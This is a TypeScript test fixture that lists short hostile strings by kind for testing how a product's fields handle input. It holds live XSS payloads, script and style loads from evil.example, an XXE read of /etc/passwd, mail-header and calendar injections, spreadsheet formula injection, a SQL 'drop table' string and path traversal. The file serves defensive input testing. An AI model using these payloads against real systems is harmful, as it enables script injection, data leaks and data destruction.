/** What a hostile text is made for. */
type HostileKind =
  | 'script'
  | 'event handler'
  | 'attribute'
  | 'address'
  | 'drawing'
  | 'template'
  | 'translation'
  | 'markdown'
  | 'style'
  | 'direction'
  | 'lookalike'
  | 'encoded'
  | 'object'
  | 'mail header'
  | 'calendar'
  | 'table'
  | 'statement'
  | 'database'
  | 'path'
  | 'length'

interface HostileText {
  readonly kind: HostileKind
  readonly text: string
}

/** The site that these texts try to reach; nobody can register it (RFC 2606). */
export const FOREIGN_HOST = 'evil.example'

const of = (kind: HostileKind, ...texts: readonly string[]): HostileText[] => texts.map((text) => ({ kind, text }))

/**
 * Texts that do harm where they are taken for something else than text. Each is visible and has at most a hundred
 * characters, so that it fits every field of the product.
 */
const HOSTILE: readonly HostileText[] = [
  ...of(
    'script',
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/1.js></sCrIpT>',
    '</script><script>alert(1)</script>',
    '</title></textarea></style><script>alert(1)</script>',
    '<!--><script>alert(1)</script-->',
    ']]><script>alert(1)</script>',
  ),
  ...of(
    'event handler',
    '<img src=x onerror=alert(1)>',
    '<img src="//evil.example/1.png">',
    '<details open ontoggle=alert(1)>x',
    '<input autofocus onfocus=alert(1)>',
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<iframe src="https://evil.example/1"></iframe>',
  ),
  ...of(
    'attribute',
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
  ),
  ...of(
    'address',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)//https://example.com',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '<a href="javascript:alert(1)">Salón</a>',
  ),
  ...of(
    'drawing',
    '<svg onload=alert(1)>',
    '<svg><script href="data:,alert(1)"/></svg>',
    '<math><mtext></p><img src onerror=alert(1)>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ),
  ...of(
    'template',
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it must stay as it is.
    '${alert(1)}',
    '<%= 7*7 %><?= 7*7 ?>#{7*7}',
  ),
  ...of(
    'translation',
    '{{count}} {name} {vendor, select, other {x}}',
    '$t(plans.list.title) $t(common.close)',
    "{count, plural, one {#} other {#}} <0>x</0> '{'",
  ),
  ...of(
    'markdown',
    '[Fotos](javascript:alert(1))',
    '![x](https://evil.example/1.png)',
    '**Salón** <b onclick=alert(1)>x</b> _y_',
    '<https://evil.example/1> # Título',
  ),
  ...of(
    'style',
    '</style><style>@import url(//evil.example/1.css);</style>',
    '<p style="background:url(//evil.example/1)">x</p>',
    '}*{display:none}body{background:url(//evil.example/1)}',
  ),
  ...of('direction', 'Salón \u202egpj.exe\u202c fin', '\u2066\u2067abc\u2069 \u200fDJ\u200e \u061c'),
  ...of(
    'lookalike',
    // The first word is Cyrillic.
    'раураӏ.example Sаlón',
    'ad\u200bmin\u200d\ufeff\u00ad',
    '＜script＞alert（1）＜/script＞',
    'Z\u0337\u0322\u0356a\u0338\u034dl\u0336\u0353g\u0335o 👩‍👩‍👧‍👦🏳️‍🌈',
  ),
  ...of(
    'encoded',
    '%3Cscript%3Ealert(1)%3C/script%3E %00 %0d%0a',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#x202e;',
    '\\u003cscript\\u003e \\x00 \\0 \\',
  ),
  ...of('object', '__proto__', 'constructor', 'toString'),
  ...of('mail header', 'Ana\r\nBcc: eva@evil.example\r\n\r\n<b>x</b>'),
  ...of('calendar', 'Velas\r\nEND:VEVENT\nBEGIN:VALARM\nATTACH:https://evil.example/1'),
  ...of('table', '=HYPERLINK("https://evil.example","x")', "@SUM(1+1)*cmd|' /C calc'!A0", '-2;"\t+1\n=1'),
  ...of('statement', '(((/JS (app.alert(1)) /OpenAction << >> endobj stream \\) \\050'),
  ...of('database', '\'; drop table event_plans; -- "$1" %s'),
  ...of('path', '../../../../etc/passwd'),
  ...of('length', 'x'.repeat(100)),
]

export const HOSTILE_TEXTS: readonly string[] = HOSTILE.map(({ text }) => text)

/** The text at this place, counted round and round. */
export const hostileText = (index: number): string => HOSTILE_TEXTS[index % HOSTILE_TEXTS.length] ?? ''
